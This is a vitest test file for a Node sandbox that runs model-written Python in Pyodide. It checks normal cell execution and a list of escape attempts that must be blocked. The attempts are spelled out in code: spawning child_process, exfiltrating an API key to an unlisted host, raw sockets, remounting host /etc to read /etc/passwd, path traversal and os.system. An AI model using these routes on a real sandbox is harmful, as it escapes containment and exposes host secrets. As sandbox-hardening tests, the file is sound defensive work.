// The Node sandbox with real Pyodide: what model code can do (positive) and the routes out that must be
// refused while the same kernel stays healthy (escapes that do not kill it).
import { existsSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { handlerNetwork } from '../src/sandbox/network/network.js';
import { NodePyodideSandbox } from '../src/sandbox/pyodide-child/pyodide-child-sandbox.js';
import type { SandboxRequest, SandboxResponse } from '../src/sandbox/types.js';
import {
  allText,
  countingServer,
  errors,
  resultText,
  SLOW,
  streamText,
  type CountingServer,
} from './sandbox-helpers.js';

const DATA_URL = 'http://data.localds.test/rest/v1/';
const received: SandboxRequest[] = [];
let sandbox: NodePyodideSandbox;
let server: CountingServer;

beforeAll(async () => {
  server = await countingServer();
  sandbox = new NodePyodideSandbox({
    network: handlerNetwork([DATA_URL], async (req): Promise<SandboxResponse> => {
      received.push(req);
      // `?tag=T&size=N`: N bytes of T repeated, so each answer's bytes can be told apart.
      const query = new URL(req.url).searchParams;
      if (query.has('size')) {
        const tag = query.get('tag') ?? '';
        const size = Number(query.get('size'));
        const status = Number(query.get('status') ?? 200);
        return { status, headers: {}, body: tag.repeat(size / tag.length || 0) };
      }
      return {
        status: 200,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify([{ variant: 'control', n: 3 }]),
      };
    }),
    maxOutputBytes: 64 * 1024,
    maxRichOutputBytes: 1024 * 1024,
    timeoutMs: 60_000,
    // as with packages loaded: `requests` (urllib3) waits on the guarded fetch through JSPI
    jspi: true,
  });
  await sandbox.ready;
}, SLOW);

afterAll(async () => {
  await sandbox?.dispose();
  await server?.close();
});

describe('node sandbox: running cells', () => {
  it('returns the last expression as execute_result, prints as stream, and keeps state', async () => {
    const first = await sandbox.run('marker = 40\nprint("hello")\nmarker + 2');
    expect(first.status).toBe('ok');
    expect(first.stateLost).toBe(false);
    expect(streamText(first)).toBe('hello\n');
    expect(resultText(first)).toBe('42');
    const second = await sandbox.run('marker * 2');
    expect(resultText(second)).toBe('80');
  });

  it('reports an exception as an error output with the cell traceback', async () => {
    const result = await sandbox.run('def f(x):\n    return 1 / x\n\nf(0)');
    expect(result.status).toBe('error');
    const [error] = errors(result);
    expect(error).toMatchObject({ ename: 'ZeroDivisionError', evalue: 'division by zero' });
    const tb = error!.traceback.join('\n');
    expect(tb).toContain('<cell-');
    expect(tb).toContain('return 1 / x');
    expect(tb).not.toContain('_localds_kernel');
  });

  it("records the kernel's peak memory per cell: the wasm heap, which grows and never shrinks", async () => {
    const MIB = 1024 * 1024;
    const small = await sandbox.run('1');
    expect(small.peakMemoryBytes).toBeGreaterThan(0);
    const big = await sandbox.run('blob = b"x" * (192 * 2**20)\nlen(blob)');
    expect(resultText(big)).toBe(String(192 * MIB));
    expect(big.peakMemoryBytes).toBeGreaterThanOrEqual(192 * MIB);
    expect(big.peakMemoryBytes).toBeGreaterThan(small.peakMemoryBytes!);
    const after = await sandbox.run('del blob');
    expect(after.peakMemoryBytes).toBe(big.peakMemoryBytes);
  });

  it('keeps the error output of an exception with a huge message, truncated', async () => {
    const result = await sandbox.run("raise ValueError('v' * (50 * 10**6))");
    expect(result.status).toBe('error');
    const [error] = errors(result);
    expect(error?.ename).toBe('ValueError');
    expect(error?.evalue).toMatch(/truncated \d+ characters/);
    expect(JSON.stringify(result.outputs).length).toBeLessThan(1_000_000);
  });

  it('reports a syntax error without running anything', async () => {
    const result = await sandbox.run('side_effect = 1\nif True print(1)');
    expect(errors(result)[0]?.ename).toBe('SyntaxError');
    expect(errors(await sandbox.run('side_effect'))[0]?.ename).toBe('NameError');
  });

  it('lists files written by the cell with their sizes, and shares the folder with the harness', async () => {
    await sandbox.writeFile('input/given.txt', new TextEncoder().encode('from harness'));
    const result = await sandbox.run(
      'import os\nos.makedirs("out", exist_ok=True)\n' +
        'open("out/summary.json", "w").write("{\\"n\\": 1}")\n' +
        'open("input/given.txt").read()',
    );
    expect(resultText(result)).toBe("'from harness'");
    const summarySize = '{"n": 1}'.length;
    expect(result.filesWritten).toEqual([{ name: 'out/summary.json', size: summarySize }]);
    const files = await sandbox.listFiles();
    expect(files.map((f) => [f.name, f.size])).toEqual([
      ['input/given.txt', 'from harness'.length],
      ['out/summary.json', summarySize],
    ]);
    expect(new TextDecoder().decode(await sandbox.readFile('out/summary.json'))).toBe('{"n": 1}');
  });

  it('answers pyfetch of the data URL from the fetch handler and records it without the key', async () => {
    const before = received.length;
    const result = await sandbox.run(
      'from pyodide.http import pyfetch\n' +
        `r = await pyfetch("${DATA_URL}posthog_events?select=variant&apikey=SECRETKEY", headers={"apikey": "SECRETKEY"})\n` +
        'rows = await r.json()\n(r.status, rows[0]["variant"])',
    );
    expect(result.status).toBe('ok');
    expect(resultText(result)).toBe("(200, 'control')");
    expect(received.length).toBe(before + 1);
    expect(received.at(-1)).toMatchObject({
      method: 'GET',
      url: `${DATA_URL}posthog_events?select=variant&apikey=SECRETKEY`,
    });
    expect(received.at(-1)?.headers.apikey).toBe('SECRETKEY');
    expect(result.requests).toEqual([
      expect.objectContaining({
        method: 'GET',
        url: `${DATA_URL}posthog_events?select=variant`,
        status: 200,
        allowed: true,
      }),
    ]);
    expect(JSON.stringify(result.requests)).not.toContain('SECRETKEY');
  });

  it('answers concurrent requests with their own bodies, large, small and empty, in any order', async () => {
    // The bodies travel on the child's body channel beside the IPC messages; one a socket buffer
    // cannot hold at once, one tiny, one empty, and a 204 whose body fetch drops must keep them in step.
    const result = await sandbox.run(
      'import asyncio, hashlib\nfrom pyodide.http import pyfetch\n' +
        'async def get(tag, size, status):\n' +
        `    r = await pyfetch(f"${DATA_URL}t?tag={tag}&size={size}&status={status}")\n` +
        '    body = await r.bytes()\n' +
        '    return r.status, hashlib.sha256(body).hexdigest()[:12], len(body)\n' +
        'asked = [("ab", 6_000_000, 200), ("z", 1, 200), ("n", 5000, 204), ("q", 0, 200), ("cd", 400_000, 200)]\n' +
        'got = await asyncio.gather(*(get(*a) for a in asked))\n' +
        'def expected(tag, size, status):\n' +
        '    body = b"" if status == 204 else (tag * (size // len(tag))).encode()\n' +
        '    return status, hashlib.sha256(body).hexdigest()[:12], len(body)\n' +
        'want = [expected(*a) for a in asked]\n' +
        'got == want or got',
    );
    expect(result.status).toBe('ok');
    expect(resultText(result)).toBe('True');
    const after = await sandbox.run(
      `r = await pyfetch("${DATA_URL}posthog_events?select=variant")\n(await r.json())[0]["n"]`,
    );
    expect(resultText(after)).toBe('3');
  });

  it('answers urllib3’s JSPI path (run_sync over the guarded fetch), the one `requests` takes in Node', async () => {
    // urllib3.contrib.emscripten.fetch.send_jspi_request, reduced: in Node it needs JSPI, which the
    // child gets from a V8 flag (or natively on Node 24+), and sets redirect to manual.
    const result = await sandbox.run(
      'import js\nfrom pyodide.ffi import can_run_sync, run_sync, to_js\n' +
        'ctl = js.AbortController.new()\n' +
        'init = to_js({"method": "GET", "headers": {"apikey": "SECRETKEY"}, "signal": ctl.signal, "redirect": "manual"}, dict_converter=js.Object.fromEntries)\n' +
        `r = run_sync(js.fetch("${DATA_URL}posthog_events?select=variant", init))\n` +
        'body = run_sync(r.arrayBuffer()).to_py().tobytes()\n' +
        '(can_run_sync(), r.status, b"control" in body)',
    );
    expect(errors(result)).toEqual([]);
    expect(resultText(result)).toBe('(True, 200, True)');
    expect(result.requests).toEqual([expect.objectContaining({ status: 200, allowed: true })]);
  });

  it('shows rich results: _repr_html_ in execute_result, _repr_png_ and IPython display as display_data', async () => {
    const png = Buffer.from('\x89PNG fake image bytes', 'latin1');
    const result = await sandbox.run(
      'class Table:\n    def _repr_html_(self): return "<table><tr><td>1</td></tr></table>"\n' +
        '    def __repr__(self): return "Table(1)"\n' +
        'class Plot:\n' +
        `    def _repr_png_(self): return bytes.fromhex("${png.toString('hex')}")\n` +
        '    def __repr__(self): return "<Plot>"\n' +
        'from IPython.display import display, HTML\n' +
        'display(Plot())\ndisplay(HTML("<b>bold</b>"))\nTable()',
    );
    expect(result.status).toBe('ok');
    const [plot, html, table] = result.outputs;
    expect(plot).toEqual({
      output_type: 'display_data',
      data: { 'text/plain': '<Plot>', 'image/png': png.toString('base64') },
      metadata: {},
    });
    expect(html).toMatchObject({
      output_type: 'display_data',
      data: { 'text/html': '<b>bold</b>' },
    });
    expect(table).toMatchObject({
      output_type: 'execute_result',
      data: { 'text/plain': 'Table(1)', 'text/html': '<table><tr><td>1</td></tr></table>' },
    });
  });

  it('makes input() fail instead of waiting forever', async () => {
    const result = await sandbox.run('input("name? ")');
    expect(result.status).toBe('error');
    expect(errors(result)[0]?.ename).toMatch(/OSError|EOFError/);
  });
});

describe('node sandbox: escapes that must be refused without killing the kernel', () => {
  it('js.process reaches neither child_process, the environment, nor the OS', async () => {
    const result = await sandbox.run(
      'import js\nfrom pyodide.ffi import JsException\nout = {}\n' +
        'for name, attempt in {\n' +
        '  "mainModule": lambda: js.process.mainModule.require("child_process"),\n' +
        '  "require": lambda: js.require("child_process"),\n' +
        '  "binding": lambda: js.process.binding("spawn_sync"),\n' +
        '  "builtin": lambda: js.process.getBuiltinModule("node:child_process"),\n' +
        '  "dlopen": lambda: js.process.dlopen(js.Object.new(), "/lib/x86_64-linux-gnu/libc.so.6"),\n' +
        '  "kill": lambda: js.process.kill(1, 9),\n' +
        '  "exit": lambda: js.process.exit(3),\n' +
        '}.items():\n' +
        '    try:\n        attempt()\n        out[name] = "ESCAPED"\n' +
        '    except (JsException, AttributeError) as e:\n        out[name] = "blocked"\n' +
        'out["env"] = list(js.Object.keys(js.process.env))\nout',
    );
    expect(result.status).toBe('ok');
    expect(resultText(result)).toBe(
      "{'mainModule': 'blocked', 'require': 'blocked', 'binding': 'blocked', 'builtin': 'blocked', " +
        "'dlopen': 'blocked', 'kill': 'blocked', 'exit': 'blocked', 'env': []}",
    );
  });

  it('run_js cannot require or import child_process (no code from strings in the child)', async () => {
    for (const js of [
      "require('child_process').execSync('id').toString()",
      "import('node:child_process').then(m => m.execSync('id').toString())",
    ]) {
      const result = await sandbox.run(
        `from pyodide.code import run_js\nrun_js(${JSON.stringify(js)})`,
      );
      expect(result.status).toBe('error');
      expect(errors(result)[0]?.evalue).toMatch(/Code generation from strings disallowed/);
    }
    const viaFunction = await sandbox.run('import js\njs.Function("return process")()');
    expect(errors(viaFunction)[0]?.evalue).toMatch(/Code generation from strings disallowed/);
  });

  it('a request to a host not allowed gets 403, is recorded, and never reaches that host', async () => {
    const result = await sandbox.run(
      'import js\nfrom pyodide.http import pyfetch\n' +
        `a = await pyfetch("${server.url}/steal?apikey=SECRETKEY")\n` +
        `b = await js.fetch("${server.url}/js-fetch", method="POST", body="exfiltrated")\n` +
        '(a.status, b.status, await a.text())',
    );
    expect(result.status).toBe('ok');
    expect(resultText(result)).toContain('(403, 403,');
    expect(resultText(result)).toContain(`request to ${new URL(server.url).host} blocked`);
    expect(result.requests.map((r) => [r.method, r.url, r.status, r.allowed])).toEqual([
      ['GET', `${server.url}/steal`, 403, false],
      ['POST', `${server.url}/js-fetch`, 403, false],
    ]);
    // The record and the answer say why: only the run's data URL answers (which one, without a key).
    const why = `request to ${new URL(server.url).host} blocked: this sandbox only answers the run's data URL, ${DATA_URL}`;
    expect(result.requests.map((r) => r.blocked)).toEqual([
      expect.stringContaining(why),
      expect.stringContaining(why),
    ]);
    expect(resultText(result)).toContain(why);
    const statusLine = await sandbox.run(`(await pyfetch("${server.url}/x")).status_text`);
    expect(resultText(statusLine)).toContain(`Forbidden: ${why}`);
    expect(server.hits()).toBe(0);
  });

  it('a raw socket from Python cannot connect to the host', async () => {
    const { port } = new URL(server.url);
    const result = await sandbox.run(
      `import socket\ns = socket.create_connection(("127.0.0.1", ${port}), timeout=5)\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")`,
    );
    expect(result.status).toBe('error');
    expect(errors(result)[0]?.ename).toMatch(/OSError|ConnectionError|TimeoutError/);
    expect(server.hits()).toBe(0);
  });

  it('a nested Worker cannot be created', async () => {
    const result = await sandbox.run('import js\njs.Worker.new("data:text/javascript,1")');
    expect(result.status).toBe('error');
    expect(errors(result)[0]?.evalue).toMatch(/Worker is not available/);
  });

  it('reading /etc/passwd fails, directly and by mounting the host folder with NODEFS', async () => {
    const direct = await sandbox.run('open("/etc/passwd").read()');
    expect(errors(direct)[0]?.ename).toBe('FileNotFoundError');
    // Bypass the guards: take the NODEFS type from the /work mount and mount the host's /etc with it.
    const remount = await sandbox.run(
      'import pyodide_js\nfrom js import Object\nfrom pyodide.ffi import to_js\n' +
        'nodefs = pyodide_js.FS.lookupPath("/work").node.mount.type\n' +
        'pyodide_js.FS.mkdirTree("/hostetc")\n' +
        'try:\n    pyodide_js.FS.mount(nodefs, to_js({"root": "/etc"}, dict_converter=Object.fromEntries), "/hostetc")\n' +
        'except Exception as e:\n    print("mount refused:", type(e).__name__)\n' +
        'open("/hostetc/passwd").read()',
    );
    expect(remount.status).toBe('error');
    expect(streamText(remount)).toContain('mount refused');
    expect(allText(remount)).not.toContain('root:x:0:0');
  });

  it('writing outside the run directory never touches the host', async () => {
    const name = `localds-escape-${process.pid}-${Date.now()}.txt`;
    // /tmp inside Pyodide is in-memory: the write "succeeds" but no host file appears.
    const memfs = await sandbox.run(`open("/tmp/${name}", "w").write("x")`);
    expect(memfs.status).toBe('ok');
    const remount = await sandbox.run(
      'import pyodide_js\nfrom js import Object\nfrom pyodide.ffi import to_js\n' +
        'nodefs = pyodide_js.FS.lookupPath("/work").node.mount.type\n' +
        'pyodide_js.FS.mkdirTree("/hosttmp")\n' +
        'try:\n    pyodide_js.FS.mount(nodefs, to_js({"root": "/tmp"}, dict_converter=Object.fromEntries), "/hosttmp")\n' +
        'except Exception as e:\n    print("mount refused:", type(e).__name__)\n' +
        `open("/hosttmp/${name}", "w").write("x")`,
    );
    // The mount is refused, so the write lands in Pyodide's in-memory /hosttmp folder.
    expect(streamText(remount)).toContain('mount refused');
    expect(existsSync(`/tmp/${name}`)).toBe(false);
    const dotdot = await sandbox.run(`open("/work/../../tmp/${name}", "w").write("x")`);
    expect(existsSync(`/tmp/${name}`)).toBe(false);
    expect(dotdot.filesWritten).toEqual([]);
  });

  it('os.system and friends raise instead of spawning', async () => {
    const result = await sandbox.run('import os\nos.system("touch /tmp/localds-system-escape")');
    expect(errors(result)[0]).toMatchObject({ ename: 'PermissionError' });
    expect(existsSync('/tmp/localds-system-escape')).toBe(false);
  });

  it(
    '200 MB of output is cut in the child: marker shown, parent memory stays bounded',
    async () => {
      const rssBefore = process.memoryUsage().rss;
      const result = await sandbox.run(
        'import sys\nchunk = "x" * (1 << 20)\nfor _ in range(200):\n    sys.stdout.write(chunk)\n' +
          'print("tail", file=sys.stderr)\n"finished"',
      );
      const growthMb = (process.memoryUsage().rss - rssBefore) / 1024 / 1024;
      expect(result.status).toBe('ok');
      expect(resultText(result)).toBe("'finished'");
      const out = streamText(result);
      expect(out.length).toBeLessThan(64 * 1024 + 100);
      expect(out).toContain(`… [truncated ${200 * 1024 * 1024 - 64 * 1024} bytes]`);
      expect(streamText(result, 'stderr')).toContain('[truncated 5 bytes]');
      expect(growthMb).toBeLessThan(50);
    },
    SLOW,
  );

  it('rich outputs pushed straight through the kernel emit keep their own budget', async () => {
    const result = await sandbox.run(
      'import _localds_kernel, json\n' +
        'big = json.dumps({"output_type": "display_data", "data": {"text/plain": "x" * 100_000}, "metadata": {}})\n' +
        // Malformed: sent within budget, dropped by the parent's schema check.
        '_localds_kernel.KERNEL.emit(json.dumps({"output_type": "forged"}))\n' +
        'for _ in range(100):\n    _localds_kernel.KERNEL.emit(big)',
    );
    const displays = result.outputs.filter((o) => o.output_type === 'display_data');
    expect(displays.length).toBeGreaterThan(0);
    expect(displays.length * 100_000).toBeLessThanOrEqual(1024 * 1024);
    expect(streamText(result, 'stderr')).toMatch(/\d+ rich outputs dropped: output limit reached/);
    expect(allText(result)).not.toContain('forged');
  });

  it('reports the walls it runs inside for run.json', () => {
    const report = sandbox.isolationReport();
    expect(report).toMatchObject({
      level: 'node-pyodide',
      ...sandbox.walls,
      codeFromStrings: false,
      jspi: true,
    });
    expect(report.permissionModel.write).toEqual([sandbox.runDir]);
    expect(report.permissionModel.read).toContain(sandbox.runDir);
    expect(report.limits.maxOutputBytes).toBe(64 * 1024);
  });

  it('the kernel survived every attempt with its state', async () => {
    const result = await sandbox.run('marker');
    expect(result.status).toBe('ok');
    expect(resultText(result)).toBe('40');
  });
});
